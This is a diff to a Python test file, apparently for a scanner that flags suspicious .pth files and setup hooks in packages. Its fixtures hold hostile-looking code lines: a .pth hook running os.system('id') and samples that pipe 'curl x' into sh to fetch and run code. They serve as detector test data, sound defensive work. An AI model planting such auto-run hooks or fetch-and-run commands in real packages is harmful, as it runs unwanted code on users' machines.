@@ -148,6 +148,21 @@ def test_pth_import_lines(tmp_path: Path, dist: str) -> None:
     ]
 
 
+def test_a_wheels_pth_in_a_package_folder_is_said_not_to_run_at_start_up(
+    tmp_path: Path,
+) -> None:
+    """site reads the .pth files of site-packages itself, not of the folders below it."""
+    new = {"demo/__init__.py": "", "demo/hook.pth": "import os; os.system('id')\n"}
+    assert find(tmp_path, {"demo/__init__.py": ""}, new, "wheel") == [
+        (
+            "pth",
+            "demo/hook.pth",
+            "new .pth file in a package folder, run only if the folder is made a site dir: "
+            "import os; os.system('id')",
+        )
+    ]
+
+
 HOOK = "import os; os.system('curl x | sh')\nimport site\nlib\n"
 RUNNER = '"""Set up."""\nimport subprocess\n\nsubprocess.run(["sh", "-c", "curl x | sh"])\n'
 
